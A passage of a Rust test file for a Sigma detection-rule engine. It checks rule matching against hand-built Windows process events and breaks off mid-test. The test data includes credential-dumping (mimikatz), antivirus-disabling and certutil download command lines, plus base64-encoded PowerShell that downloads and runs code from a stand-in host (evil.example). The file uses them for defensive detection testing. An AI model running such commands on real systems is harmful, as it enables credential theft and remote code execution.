//! Matching semantics, one test per feature of the specification. Every rule is given as text and
//! every event is built by hand; the expected outcome of each case is worked out from the
//! specification (sigma-rules-specification.md, sigma-appendix-modifiers.md), not from the engine.

use std::sync::Arc;
use taskhunt_events::{Event, Fields, SourceFile, Timestamp, Value};
use taskhunt_sigma::{Placeholders, RuleSet, Source};

const SYSMON: &str = "Microsoft-Windows-Sysmon/Operational";

/// An event as a reader produces it: System fields (`EventID`, `Channel`, `Computer`) in
/// `system`, EventData in `fields`.
fn event(channel: &str, id: u32, fields: &[(&str, Value)]) -> Event {
    let mut system = Fields::new();
    system.insert_str("EventID", Value::UInt(id.into()));
    system.insert_str("Channel", Value::from(channel));
    system.insert_str("Computer", Value::from("WS01.example.corp"));
    let mut data = Fields::new();
    for (name, value) in fields {
        data.insert_str(name, value.clone());
    }
    Event {
        timestamp: Timestamp::parse("2026-03-01T10:00:00Z").expect("timestamp"),
        computer: "WS01.example.corp".into(),
        channel: channel.into(),
        provider: "test".into(),
        event_id: id,
        record_id: 1,
        source: Arc::new(SourceFile { path: "hand-built".into(), format: "test" }),
        system,
        fields: data,
    }
}

/// A Sysmon process creation (event 1) with string fields.
fn proc(fields: &[(&str, &str)]) -> Event {
    let f: Vec<(&str, Value)> = fields.iter().map(|(n, v)| (*n, Value::from(*v))).collect();
    event(SYSMON, 1, &f)
}

fn cmd(line: &str) -> Event {
    proc(&[("Image", r"C:\Windows\System32\cmd.exe"), ("CommandLine", line)])
}

/// A rule with the given logsource lines and detection body (both indented by four spaces).
fn rule_text(logsource: &str, detection: &str) -> String {
    format!("title: test rule\nid: 11111111-2222-4333-8444-555555555555\nlogsource:\n{logsource}\ndetection:\n{detection}\nlevel: medium\n")
}

const PROC: &str = "    product: windows\n    category: process_creation";

fn load_with(text: &str, placeholders: Option<&Placeholders>) -> RuleSet {
    let set = RuleSet::load(&[Source::Text { name: "test.yml", text }], placeholders);
    assert!(set.errors.is_empty(), "rule does not load: {:?}\n{text}", set.errors);
    assert_eq!(set.rules.len(), 1);
    set
}

fn proc_rule(detection: &str) -> RuleSet {
    load_with(&rule_text(PROC, detection), None)
}

/// Whether the set's only rule fires; the indexed and prefiltered path (`matches`) and the
/// direct one (`rule_matches`) must agree.
fn fires(set: &RuleSet, e: &Event) -> bool {
    let all = !set.matches(e).is_empty();
    let one = set.rule_matches(0, e).is_some();
    assert_eq!(all, one, "matches() and rule_matches() disagree on {:?}", e.fields);
    all
}

#[test]
fn matching_is_case_insensitive_unless_cased() {
    let set = proc_rule("    selection:\n        CommandLine|contains: 'WhoAmI /All'\n    condition: selection");
    assert!(fires(&set, &cmd("whoami /all")));
    assert!(fires(&set, &cmd("C:\\x\\WHOAMI /ALL /fo csv")));
    assert!(!fires(&set, &cmd("whoami /groups")));
    let set = proc_rule("    selection:\n        Image: 'c:\\windows\\system32\\CMD.exe'\n    condition: selection");
    assert!(fires(&set, &cmd("x")), "exact comparisons ignore case too");
    let set = proc_rule("    selection:\n        CommandLine|contains: 'ÉTÉ'\n    condition: selection");
    assert!(fires(&set, &cmd("echo été")), "case folding is not limited to ASCII");

    let set = proc_rule("    selection:\n        CommandLine|contains|cased: 'WhoAmI'\n    condition: selection");
    assert!(fires(&set, &cmd("x WhoAmI /all")));
    assert!(!fires(&set, &cmd("x whoami /all")));
    assert!(!fires(&set, &cmd("x WHOAMI /all")));
}

#[test]
fn wildcards_and_escapes() {
    // A backslash right before a wildcard must itself be escaped: `\\*` is backslash + wildcard.
    let set = proc_rule("    selection:\n        Image: 'C:\\Windows\\\\*\\cmd.ex?'\n    condition: selection");
    assert!(fires(&set, &proc(&[("Image", r"C:\Windows\SysWOW64\cmd.exe")])));
    assert!(fires(&set, &proc(&[("Image", r"C:\Windows\System32\cmd.exe")])));
    assert!(!fires(&set, &proc(&[("Image", r"C:\Windows\cmd.exe")])), "the star sits between two backslashes");
    assert!(!fires(&set, &proc(&[("Image", r"C:\Windows\System32\cmd.ex")])), "? needs exactly one character");
    // Written with one backslash, `\*` is an escaped star: only a literal `*` folder matches.
    let set = proc_rule("    selection:\n        Image: 'C:\\Windows\\*\\cmd.exe'\n    condition: selection");
    assert!(!fires(&set, &proc(&[("Image", r"C:\Windows\System32\cmd.exe")])));
    assert!(fires(&set, &proc(&[("Image", r"C:\Windows*\cmd.exe")])));

    // `\\\*` (three backslashes): a backslash and a plain star.
    let set = proc_rule("    selection:\n        CommandLine: 'dir C:\\\\\\*'\n    condition: selection");
    assert!(fires(&set, &cmd(r"dir C:\*")));
    assert!(!fires(&set, &cmd(r"dir C:\Windows")));
    let set = proc_rule("    selection:\n        CommandLine: 'echo \\*'\n    condition: selection");
    assert!(fires(&set, &cmd("echo *")));
    assert!(!fires(&set, &cmd("echo hello")));
    // `\?` is a plain question mark.
    let set = proc_rule("    selection:\n        CommandLine: 'netsh /\\?'\n    condition: selection");
    assert!(fires(&set, &cmd("netsh /?")));
    assert!(!fires(&set, &cmd("netsh /x")));

    // `\\*`: a backslash, then a wildcard.
    let set = proc_rule("    selection:\n        CommandLine: 'type C:\\temp\\\\*'\n    condition: selection");
    assert!(fires(&set, &cmd(r"type C:\temp\secrets.txt")));
    assert!(fires(&set, &cmd(r"type C:\temp\")));
    assert!(!fires(&set, &cmd(r"type C:\tempfile")));

    // A lone backslash is literal, so Windows paths need no escaping, a trailing one included.
    let set = proc_rule("    selection:\n        Image|startswith: 'C:\\Users\\Public\\'\n    condition: selection");
    assert!(fires(&set, &proc(&[("Image", r"C:\Users\Public\evil.exe")])));
    assert!(!fires(&set, &proc(&[("Image", r"C:\Users\PublicData\evil.exe")])));

    // `\\` is one backslash and four stand for two: a UNC path is written `\\\\server`.
    let set = proc_rule("    selection:\n        Image|startswith: '\\\\\\\\fileserver\\'\n    condition: selection");
    assert!(fires(&set, &proc(&[("Image", r"\\fileserver\share\tool.exe")])));
    let set = proc_rule("    selection:\n        Image: '\\\\fileserver\\tool.exe'\n    condition: selection");
    assert!(fires(&set, &proc(&[("Image", r"\fileserver\tool.exe")])));
    assert!(!fires(&set, &proc(&[("Image", r"\\fileserver\tool.exe")])), "`\\\\` is a single backslash");

    // `*` alone matches any present value, the empty one included, but not an absent field.
    let set = proc_rule("    selection:\n        ParentCommandLine: '*'\n    condition: selection");
    assert!(fires(&set, &proc(&[("ParentCommandLine", "")])));
    assert!(!fires(&set, &proc(&[("Image", "x")])));
}

#[test]
fn contains_startswith_endswith_all() {
    let set = proc_rule("    selection:\n        Image|endswith: '\\rundll32.exe'\n    condition: selection");
    assert!(fires(&set, &proc(&[("Image", r"C:\Windows\System32\rundll32.exe")])));
    assert!(!fires(&set, &proc(&[("Image", r"C:\Windows\System32\rundll32.exe.bak")])));
    assert!(!fires(&set, &proc(&[("Image", r"C:\Windows\System32\notrundll32.exe")])), "the backslash is part of the suffix");

    let set = proc_rule("    selection:\n        CommandLine|startswith: 'powershell'\n    condition: selection");
    assert!(fires(&set, &cmd("PowerShell -nop")));
    assert!(!fires(&set, &cmd("\"C:\\x\\powershell.exe\" -nop")));

    let set = proc_rule("    selection:\n        CommandLine|contains: 'sekurlsa::'\n    condition: selection");
    assert!(fires(&set, &cmd("mimikatz.exe sekurlsa::logonpasswords exit")));
    assert!(!fires(&set, &cmd("mimikatz.exe lsadump::sam")));

    // A wildcard inside a contains value keeps its meaning.
    let set = proc_rule("    selection:\n        CommandLine|contains: 'net* user'\n    condition: selection");
    assert!(fires(&set, &cmd("net1.exe user admin /add")));
    assert!(!fires(&set, &cmd("whoami /user")));
}

#[test]
fn value_lists_are_or_and_all_makes_them_and() {
    let set = proc_rule(
        "    selection:\n        CommandLine|contains:\n            - ' -nop'\n            - ' -w hidden'\n    condition: selection",
    );
    assert!(fires(&set, &cmd("powershell -nop -c x")));
    assert!(fires(&set, &cmd("powershell -w hidden -c x")));
    assert!(!fires(&set, &cmd("powershell -c x")));

    let set = proc_rule(
        "    selection:\n        CommandLine|contains|all:\n            - ' -nop'\n            - ' -w hidden'\n    condition: selection",
    );
    assert!(fires(&set, &cmd("powershell -w hidden -nop -c x")), "order does not matter");
    assert!(!fires(&set, &cmd("powershell -nop -c x")));
    assert!(!fires(&set, &cmd("powershell -w hidden -c x")));

    // A list of maps is OR over the maps, AND inside each.
    let set = proc_rule(
        "    selection:\n        - Image|endswith: '\\certutil.exe'\n          CommandLine|contains: 'urlcache'\n        - Image|endswith: '\\bitsadmin.exe'\n    condition: selection",
    );
    assert!(fires(&set, &proc(&[("Image", r"C:\w\certutil.exe"), ("CommandLine", "certutil -urlcache -f http://x")])));
    assert!(!fires(&set, &proc(&[("Image", r"C:\w\certutil.exe"), ("CommandLine", "certutil -encode a b")])));
    assert!(fires(&set, &proc(&[("Image", r"C:\w\bitsadmin.exe"), ("CommandLine", "bitsadmin /list")])));
}

#[test]
fn keywords_search_every_event_data_field() {
    let set = proc_rule("    keywords:\n        - 'sekurlsa::'\n        - 'Invoke-Mimikatz'\n    condition: keywords");
    assert!(fires(&set, &cmd("mimikatz SEKURLSA::logonpasswords")), "keywords are substrings, case-insensitive");
    assert!(fires(&set, &proc(&[("Image", "x"), ("ParentCommandLine", "powershell invoke-mimikatz")])), "any field");
    assert!(!fires(&set, &cmd("whoami")));
    // Keywords cover the event data, not the System header.
    let mut e = cmd("whoami");
    e.system.insert_str("Computer", Value::from("sekurlsa::host"));
    assert!(!fires(&set, &e));

    let set = proc_rule(
        "    keywords:\n        '|all':\n            - 'OabVirtualDirectory'\n            - ' -ExternalUrl '\n    condition: keywords",
    );
    assert!(fires(&set, &cmd("Set-OabVirtualDirectory -ExternalUrl 'http://x'")));
    assert!(
        fires(&set, &proc(&[("Image", "Set-OabVirtualDirectory"), ("CommandLine", "x -externalurl y")])),
        "each keyword may be found in a different field"
    );
    assert!(!fires(&set, &cmd("Set-OabVirtualDirectory -InternalUrl x")));
}

#[test]
fn null_means_absent_or_null_and_differs_from_empty() {
    let set = proc_rule("    selection:\n        Image|endswith: '\\x.exe'\n        ParentCommandLine: null\n    condition: selection");
    assert!(fires(&set, &proc(&[("Image", r"C:\x.exe")])), "absent field");
    let null_field = event(SYSMON, 1, &[("Image", Value::from(r"C:\x.exe")), ("ParentCommandLine", Value::Null)]);
    assert!(fires(&set, &null_field), "field present with a null value");
    assert!(!fires(&set, &proc(&[("Image", r"C:\x.exe"), ("ParentCommandLine", "")])), "'' is a value, not null");
    assert!(!fires(&set, &proc(&[("Image", r"C:\x.exe"), ("ParentCommandLine", "cmd")])));

    let set = proc_rule("    selection:\n        Image|endswith: '\\x.exe'\n        ParentCommandLine: ''\n    condition: selection");
    assert!(fires(&set, &proc(&[("Image", r"C:\x.exe"), ("ParentCommandLine", "")])));
    assert!(!fires(&set, &proc(&[("Image", r"C:\x.exe")])), "an absent field is not empty");
    assert!(!fires(&set, &null_field));
    assert!(!fires(&set, &proc(&[("Image", r"C:\x.exe"), ("ParentCommandLine", " ")])));

    // `not null` is written as a negated selection.
    let set = proc_rule(
        "    selection:\n        Image|endswith: '\\x.exe'\n    filter:\n        ParentCommandLine: null\n    condition: selection and not filter",
    );
    assert!(fires(&set, &proc(&[("Image", r"C:\x.exe"), ("ParentCommandLine", "cmd")])));
    assert!(!fires(&set, &proc(&[("Image", r"C:\x.exe")])));
}

#[test]
fn numbers_and_strings_compare_by_text() {
    let sec = "    product: windows\n    service: security";
    let set = load_with(&rule_text(sec, "    selection:\n        EventID: 4688\n    condition: selection"), None);
    assert!(fires(&set, &event("Security", 4688, &[])), "a number in the rule, an integer in the event");
    assert!(!fires(&set, &event("Security", 4689, &[])));
    let set = load_with(&rule_text(sec, "    selection:\n        EventID: '4688'\n    condition: selection"), None);
    assert!(fires(&set, &event("Security", 4688, &[])), "a quoted number matches the integer");

    let set = load_with(&rule_text(sec, "    selection:\n        LogonType: 3\n    condition: selection"), None);
    assert!(fires(&set, &event("Security", 4624, &[("LogonType", Value::from("3"))])), "number against string field");
    assert!(fires(&set, &event("Security", 4624, &[("LogonType", Value::UInt(3))])));
    assert!(!fires(&set, &event("Security", 4624, &[("LogonType", Value::from("13"))])), "equality, not containment");

    // A leading zero keeps a YAML scalar a string, written as is.
    let set = load_with(&rule_text(sec, "    selection:\n        Status: 00000429\n    condition: selection"), None);
    assert!(fires(&set, &event("Security", 4625, &[("Status", Value::from("00000429"))])));
    assert!(!fires(&set, &event("Security", 4625, &[("Status", Value::from("429"))])));
}

#[test]
fn hex_strings_compare_as_written() {
    let sec = "    product: windows\n    service: security";
    let set = load_with(&rule_text(sec, "    selection:\n        SubjectLogonId: '0x3e7'\n    condition: selection"), None);
    assert!(fires(&set, &event("Security", 4624, &[("SubjectLogonId", Value::from("0x3e7"))])));
    assert!(fires(&set, &event("Security", 4624, &[("SubjectLogonId", Value::from("0x3E7"))])), "hex digits ignore case");
    assert!(!fires(&set, &event("Security", 4624, &[("SubjectLogonId", Value::from("999"))])), "no conversion to 999");
    assert!(!fires(&set, &event("Security", 4624, &[("SubjectLogonId", Value::from("0x3e70"))])));
}

#[test]
fn regular_expressions() {
    let set = proc_rule("    selection:\n        CommandLine|re: 'whoami\\s+/(all|priv)'\n    condition: selection");
    assert!(fires(&set, &cmd("whoami   /priv")));
    assert!(!fires(&set, &cmd("WHOAMI /PRIV")), "re is case-sensitive by default");
    assert!(fires(&set, &cmd("x whoami /all y")), "unanchored: a match anywhere");
    let set = proc_rule("    selection:\n        CommandLine|re|i: 'whoami\\s+/(all|priv)'\n    condition: selection");
    assert!(fires(&set, &cmd("WHOAMI /PRIV")));

    let text = "line one\nsecret=1\nline three";
    let set = proc_rule("    selection:\n        CommandLine|re: '^secret=\\d$'\n    condition: selection");
    assert!(!fires(&set, &cmd(text)), "without m, ^ and $ are the ends of the whole value");
    let set = proc_rule("    selection:\n        CommandLine|re|m: '^secret=\\d$'\n    condition: selection");
    assert!(fires(&set, &cmd(text)));
    let set = proc_rule("    selection:\n        CommandLine|re: 'one.secret'\n    condition: selection");
    assert!(!fires(&set, &cmd(text)), "without s, . does not match a newline");
    let set = proc_rule("    selection:\n        CommandLine|re|s: 'one.secret'\n    condition: selection");
    assert!(fires(&set, &cmd(text)));
}

#[test]
fn look_around_regex_uses_the_backtracking_engine() {
    use taskhunt_sigma::modifiers::{Regex, ValueTest};
    // `cmd` not followed by `.exe`: a negative look-ahead, which the regex crate cannot express.
    let set = proc_rule("    selection:\n        CommandLine|re: '\\bcmd(?!\\.exe)\\b'\n    condition: selection");
    let test = &set.rules[0].selections[0].maps[0][0].values[0][0];
    assert!(matches!(test, ValueTest::Regex(Regex::Backtracking(_))), "{test:?}");
    assert!(fires(&set, &cmd("cmd /c whoami")));
    assert!(!fires(&set, &cmd("cmd.exe /c whoami")));
    // A back-reference: the same quote character on both sides.
    let set = proc_rule("    selection:\n        CommandLine|re: '([\"'']).*evil.*\\1'\n    condition: selection");
    assert!(matches!(&set.rules[0].selections[0].maps[0][0].values[0][0], ValueTest::Regex(Regex::Backtracking(_))));
    assert!(fires(&set, &cmd("x 'an evil one' y")));
    assert!(!fires(&set, &cmd("x 'an evil one\" y")));
    // Catastrophic backtracking stops at the step limit and counts as no match.
    let set = proc_rule("    selection:\n        CommandLine|re: '^(a+)+\\1b'\n    condition: selection");
    assert!(fires(&set, &cmd("aab")));
    let started = std::time::Instant::now();
    assert!(!fires(&set, &cmd(&"a".repeat(40))));
    assert!(started.elapsed() < std::time::Duration::from_secs(5), "{:?}", started.elapsed());
    // A plain pattern stays on the fast engine.
    let set = proc_rule("    selection:\n        CommandLine|re: 'a+b'\n    condition: selection");
    assert!(matches!(&set.rules[0].selections[0].maps[0][0].values[0][0], ValueTest::Regex(Regex::Fast(_))));
}

#[test]
fn base64_is_exact_and_case_sensitive() {
    // base64("whoami") = "d2hvYW1p" (Python's base64.b64encode).
    let set = proc_rule("    selection:\n        CommandLine|base64|contains: 'whoami'\n    condition: selection");
    assert!(fires(&set, &cmd("powershell -e d2hvYW1p")));
    assert!(!fires(&set, &cmd("powershell -e D2HVYW1P")), "upper-casing base64 text changes the payload");
    assert!(!fires(&set, &cmd("powershell whoami")));
    let set = proc_rule("    selection:\n        CommandLine|base64: 'whoami'\n    condition: selection");
    assert!(fires(&set, &cmd("d2hvYW1p")));
    assert!(!fires(&set, &cmd("x d2hvYW1p")), "without contains the whole value must be the encoding");
}

#[test]
fn base64offset_finds_the_value_at_any_alignment() {
    let set = proc_rule("    selection:\n        CommandLine|base64offset|contains: 'http://'\n    condition: selection");
    // base64 of "http://evil.example/x" behind 0, 1, 2 and 3 bytes of prefix ("", "a", "ab", "abc").
    for encoded in [
        "aHR0cDovL2V2aWwuZXhhbXBsZS94",
        "YWh0dHA6Ly9ldmlsLmV4YW1wbGUveA==",
        "YWJodHRwOi8vZXZpbC5leGFtcGxlL3g=",
        "YWJjaHR0cDovL2V2aWwuZXhhbXBsZS94",
    ] {
        assert!(fires(&set, &cmd(&format!("powershell -e {encoded}"))), "{encoded}");
    }
    // base64("ftp://evil.example/x") and an upper-cased encoding must not match.
    assert!(!fires(&set, &cmd("powershell -e ZnRwOi8vZXZpbC5leGFtcGxlL3g=")));
    assert!(!fires(&set, &cmd("powershell -e AHR0CDOVL2V2AWWUZXHHBXBSZS94")));
}

#[test]
fn wide_base64offset_finds_utf16_powershell_payloads() {
    let set = proc_rule("    selection:\n        CommandLine|wide|base64offset|contains: 'DownloadString'\n    condition: selection");
    // base64(UTF-16LE("IEX (New-Object Net.WebClient).DownloadString('http://evil.example/a')")) with
    // no prefix, with "x" and with "xy" before it: byte offsets 0, 2 and 4 (= 1 mod 3).
    for encoded in [
        "SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAOgAvAC8AZQB2AGkAbAAuAGUAeABhAG0AcABsAGUALwBhACcAKQA=",
        "eABJAEUAWAAgACgATgBlAHcALQBPAGIAagBlAGMAdAAgAE4AZQB0AC4AVwBlAGIAQwBsAGkAZQBuAHQAKQAuAEQAbwB3AG4AbABvAGEAZABTAHQAcgBpAG4AZwAoACcAaAB0AHQAcAA6AC8ALwBlAHYAaQBsAC4AZQB4AGEAbQBwAGwAZQAvAGEAJwApAA==",
        "eAB5AEkARQBYACAAKABOAGUAdwAtAE8AYgBqAGUAYwB0ACAATgBlAHQALgBXAGUAYgBDAGwAaQBlAG4AdAApAC4ARABvAHcAbgBsAG8AYQBkAFMAdAByAGkAbgBnACgAJwBoAHQAdABwADoALwAvAGUAdgBpAGwALgBlAHgAYQBtAHAAbABlAC8AYQAnACkA",
    ] {
        assert!(fires(&set, &cmd(&format!("powershell.exe -enc {encoded}"))));
    }
    // base64(UTF-16LE("whoami /all")): no DownloadString in it.
    assert!(!fires(&set, &cmd("powershell.exe -enc dwBoAG8AYQBtAGkAIAAvAGEAbABsAA==")));
    // The UTF-8 encoding of the same text is not the UTF-16 one.
    assert!(!fires(&set, &cmd("powershell -e RG93bmxvYWRTdHJpbmc=")));
}

#[test]
fn windash_accepts_all_five_dashes_at_flag_starts() {
    let set = proc_rule("    selection:\n        CommandLine|windash|contains: '-ExecutionPolicy Bypass'\n    condition: selection");
    for dash in ['-', '/', '\u{2013}', '\u{2014}', '\u{2015}'] {
        assert!(fires(&set, &cmd(&format!("powershell.exe {dash}ExecutionPolicy Bypass -File x.ps1"))), "{dash:?}");
    }
    assert!(!fires(&set, &cmd("powershell.exe \u{2012}ExecutionPolicy Bypass")), "figure dash is not one of the five");
    assert!(!fires(&set, &cmd("powershell.exe +ExecutionPolicy Bypass")));

    // A dash inside a word (Set-MpPreference) is not a flag and stays a dash.
    let set = proc_rule(
        "    selection:\n        CommandLine|windash|contains: 'Set-MpPreference -DisableRealtimeMonitoring'\n    condition: selection",
    );
    assert!(fires(&set, &cmd("Set-MpPreference /DisableRealtimeMonitoring $true")));
    assert!(!fires(&set, &cmd("Set/MpPreference -DisableRealtimeMonitoring $true")));
}

#[test]
fn cidr_ipv4_and_ipv6() {
    let net = "    product: windows\n    category: network_connection";
    let set = load_with(
        &rule_text(
            net,
            "    selection:\n        DestinationIp|cidr:\n            - '10.0.0.0/8'\n            - 'fe80::/10'\n    condition: selection",
        ),
        None,
    );
    let conn = |ip: &str| event(SYSMON, 3, &[("DestinationIp", Value::from(ip))]);
    assert!(fires(&set, &conn("10.20.30.40")));
    assert!(fires(&set, &conn("10.255.255.255")));
    assert!(!fires(&set, &conn("11.0.0.1")));
    assert!(fires(&set, &conn("fe80::1c2:3")));
    assert!(fires(&set, &conn("febf::1")), "fe80::/10 reaches febf");
    assert!(!fires(&set, &conn("fec0::1")));
    assert!(!fires(&set, &conn("2001:db8::1")));
    assert!(!fires(&set, &conn("10.0.0.1.evil")), "not an address");
    // neq applies to any comparison: outside every listed range.
    let set = load_with(
        &rule_text(
            net,
            "    selection:\n        DestinationIp|cidr|neq:\n            - '10.0.0.0/8'\n            - '192.168.0.0/16'\n    condition: selection",
        ),
        None,
    );
    assert!(fires(&set, &conn("203.0.113.9")));
    assert!(!fires(&set, &conn("10.1.1.1")));
    assert!(!fires(&set, &conn("192.168.7.7")));
    assert!(!fires(&set, &event(SYSMON, 3, &[("SourceIp", Value::from("203.0.113.9"))])), "absent field");
}

#[test]
fn exists_checks_presence_only() {
    let set =
        proc_rule("    selection:\n        Image|endswith: '\\x.exe'\n        ParentCommandLine|exists: true\n    condition: selection");
    assert!(fires(&set, &proc(&[("Image", r"C:\x.exe"), ("ParentCommandLine", "cmd")])));
    assert!(fires(&set, &proc(&[("Image", r"C:\x.exe"), ("ParentCommandLine", "")])), "empty counts as present");
    let null_field = event(SYSMON, 1, &[("Image", Value::from(r"C:\x.exe")), ("ParentCommandLine", Value::Null)]);
    assert!(fires(&set, &null_field), "the specification: presence, whatever the value, null included");
    assert!(!fires(&set, &proc(&[("Image", r"C:\x.exe")])));

    let set =
        proc_rule("    selection:\n        Image|endswith: '\\x.exe'\n        ParentCommandLine|exists: false\n    condition: selection");
    assert!(fires(&set, &proc(&[("Image", r"C:\x.exe")])));
    assert!(!fires(&set, &proc(&[("Image", r"C:\x.exe"), ("ParentCommandLine", "")])));
}

#[test]
fn fieldref_compares_two_fields_of_one_event() {
    let set = proc_rule("    selection:\n        Image|fieldref: ParentImage\n    condition: selection");
    assert!(fires(&set, &proc(&[("Image", r"C:\t\a.exe"), ("ParentImage", r"C:\T\A.EXE")])), "case-insensitive like any value");
    assert!(!fires(&set, &proc(&[("Image", r"C:\t\a.exe"), ("ParentImage", r"C:\t\b.exe")])));
    assert!(!fires(&set, &proc(&[("Image", r"C:\t\a.exe")])), "the other field is absent");

    let set = proc_rule("    selection:\n        Image|fieldref|cased: ParentImage\n    condition: selection");
    assert!(!fires(&set, &proc(&[("Image", r"C:\t\a.exe"), ("ParentImage", r"C:\T\A.EXE")])));
    assert!(fires(&set, &proc(&[("Image", r"C:\t\a.exe"), ("ParentImage", r"C:\t\a.exe")])));

    // The modifiers appendix: fieldref can be combined with neq.
    let set = proc_rule("    selection:\n        Image|fieldref|neq: ParentImage\n    condition: selection");
    assert!(fires(&set, &proc(&[("Image", r"C:\t\a.exe"), ("ParentImage", r"C:\t\b.exe")])));
    assert!(!fires(&set, &proc(&[("Image", r"C:\t\a.exe"), ("ParentImage", r"C:\t\A.exe")])));

    // As in pySigma, contains/startswith/endswith apply to the referenced value.
    let set = proc_rule("    selection:\n        CommandLine|fieldref|contains: Image\n    condition: selection");
    assert!(fires(&set, &proc(&[("Image", r"C:\t\a.exe"), ("CommandLine", r#""C:\t\a.exe" -x"#)])));
    assert!(!fires(&set, &proc(&[("Image", r"C:\t\a.exe"), ("CommandLine", r#""C:\t\b.exe" -x"#)])));
}

#[test]
fn numeric_comparisons() {
    let net = "    product: windows\n    category: network_connection";
    let port = |p: Value| event(SYSMON, 3, &[("DestinationPort", p)]);
    let rule = |m: &str, v: &str| {
        load_with(&rule_text(net, &format!("    selection:\n        DestinationPort|{m}: {v}\n    condition: selection")), None)
    };
    let gte = rule("gte", "445");
    assert!(fires(&gte, &port(Value::UInt(445))));
    assert!(fires(&gte, &port(Value::from("3389"))), "numeric text counts as a number");
    assert!(!fires(&gte, &port(Value::UInt(139))));
    let gt = rule("gt", "445");
    assert!(!fires(&gt, &port(Value::UInt(445))));
    assert!(fires(&gt, &port(Value::UInt(446))));
    let lt = rule("lt", "1024");
    assert!(fires(&lt, &port(Value::UInt(80))));
    assert!(!fires(&lt, &port(Value::UInt(1024))));
    assert!(!fires(&lt, &port(Value::from("http"))), "not a number");
    let lte = rule("lte", "1024");
    assert!(fires(&lte, &port(Value::UInt(1024))));
    assert!(!fires(&lte, &port(Value::UInt(1025))));
    assert!(!fires(&lte, &event(SYSMON, 3, &[("SourcePort", Value::UInt(1))])), "absent field");
}

#[test]
fn neq_means_present_and_different_from_every_value() {
    let set =
        proc_rule("    selection:\n        Image|endswith: '\\x.exe'\n        User|neq: 'NT AUTHORITY\\SYSTEM'\n    condition: selection");
    assert!(fires(&set, &proc(&[("Image", r"C:\x.exe"), ("User", r"CORP\alice")])));
    assert!(!fires(&set, &proc(&[("Image", r"C:\x.exe"), ("User", r"nt authority\system")])));
    assert!(!fires(&set, &proc(&[("Image", r"C:\x.exe")])), "an absent field is not different, it is absent");

    let set = proc_rule("    selection:\n        IntegrityLevel|neq:\n            - System\n            - High\n    condition: selection");
    assert!(fires(&set, &proc(&[("IntegrityLevel", "Medium")])));
    assert!(!fires(&set, &proc(&[("IntegrityLevel", "High")])), "different from the values: all of them");
    assert!(!fires(&set, &proc(&[("IntegrityLevel", "System")])));
}

#[test]
fn expand_uses_placeholder_values_and_rules_without_them_are_inactive() {
    let text = rule_text(
        PROC,
        "    selection:\n        User|expand: '%Admins%'\n        Image|endswith: '\\psexec.exe'\n    condition: selection",
    );
    let mut p = Placeholders::new();
    p.insert("Admins".into(), vec![r"CORP\root".into(), r"CORP\adm_*".into()]);
    let set = load_with(&text, Some(&p));
    assert!(set.rules[0].inactive.is_none());
    let run = |user: &str| proc(&[("Image", r"C:\t\psexec.exe"), ("User", user)]);
    assert!(fires(&set, &run(r"CORP\root")));
    assert!(fires(&set, &run(r"corp\ADM_bob")), "placeholder values are Sigma strings, wildcards included");
    assert!(!fires(&set, &run(r"CORP\alice")));
    assert!(!fires(&set, &run("%Admins%")));

    let set = load_with(&text, None);
    let why = set.rules[0].inactive.as_deref().expect("inactive without placeholder values");
    assert!(why.contains("%Admins%"), "{why}");
    assert!(!fires(&set, &run(r"CORP\root")));
    assert!(!fires(&set, &run("%Admins%")));

    // Without `expand` a placeholder is plain text.
    let set = proc_rule("    selection:\n        CommandLine|contains: '%APPDATA%\\'\n    condition: selection");
    assert!(set.rules[0].inactive.is_none());
    assert!(fires(&set, &cmd(r"copy x %APPDATA%\y")));
    assert!(!fires(&set, &cmd(r"copy x C:\Users\a\AppData\Roaming\y")));

    // `\%` is a plain percent sign before a placeholder (the specification's `\%plain%name%`).
    let text = rule_text(PROC, "    selection:\n        CommandLine|expand|contains: '\\%plain%name%'\n    condition: selection");
    let mut p = Placeholders::new();
    p.insert("name".into(), vec!["X".into()]);
    let set = load_with(&text, Some(&p));
    assert!(set.rules[0].inactive.is_none(), "{:?}", set.rules[0].inactive);
    assert!(fires(&set, &cmd("echo %plainX")));
    assert!(!fires(&set, &cmd("echo %plain%name%")));
}

/// Selections `sel_a`, `sel_b`, `sel_c` and `filter_x` test for the words alpha, beta, gamma and
/// delta in the command line; `cmd("alpha gamma")` makes exactly sel_a and sel_c true.
fn words_rule(condition: &str) -> RuleSet {
    proc_rule(&format!(
        "    sel_a:\n        CommandLine|contains: alpha\n    sel_b:\n        CommandLine|contains: beta\n    sel_c:\n        CommandLine|contains: gamma\n    filter_x:\n        CommandLine|contains: delta\n    condition: {condition}"
    ))
}

#[test]
fn one_of_and_all_of_patterns() {
    let set = words_rule("1 of sel_*");
    assert!(fires(&set, &cmd("beta")));
    assert!(!fires(&set, &cmd("delta")), "filter_x is not a sel_ identifier");
    let set = words_rule("all of sel_*");
    assert!(fires(&set, &cmd("alpha beta gamma")));
    assert!(!fires(&set, &cmd("alpha beta delta")));
    let set = words_rule("1 of sel_* and not 1 of filter_*");
    assert!(fires(&set, &cmd("alpha")));
    assert!(!fires(&set, &cmd("alpha delta")));
    let set = words_rule("all of *_a or all of filter*");
    assert!(fires(&set, &cmd("delta")), "a pattern may start with a wildcard");
}

#[test]
fn n_of_them_and_them_skips_underscore_identifiers() {
    let set = words_rule("2 of them");
    assert!(fires(&set, &cmd("alpha delta")), "them includes filter_x");
    assert!(!fires(&set, &cmd("gamma")));
    let set = words_rule("3 of sel_*");
    assert!(fires(&set, &cmd("alpha beta gamma")));
    assert!(!fires(&set, &cmd("alpha beta delta")));

    let with_hidden = |condition: &str| {
        proc_rule(&format!(
            "    selection:\n        CommandLine|contains: alpha\n    _helper:\n        CommandLine|contains: beta\n    condition: {condition}"
        ))
    };
    let set = with_hidden("all of them");
    assert!(fires(&set, &cmd("alpha")), "_helper is not part of them");
    let set = with_hidden("1 of them");
    assert!(!fires(&set, &cmd("beta")), "_helper alone does not make `1 of them` true");
    let set = with_hidden("selection and _helper");
    assert!(fires(&set, &cmd("alpha beta")), "an underscore identifier can still be named");
    assert!(!fires(&set, &cmd("alpha")));
}

#[test]
fn precedence_or_and_not_of_parentheses() {
    // or < and < not < x of < ( ): `sel_a or sel_b and not sel_c` is sel_a or (sel_b and (not sel_c)).
    let set = words_rule("sel_a or sel_b and not sel_c");
    assert!(fires(&set, &cmd("alpha gamma")), "(a or b) and not c would be false here");
    assert!(fires(&set, &cmd("beta")));
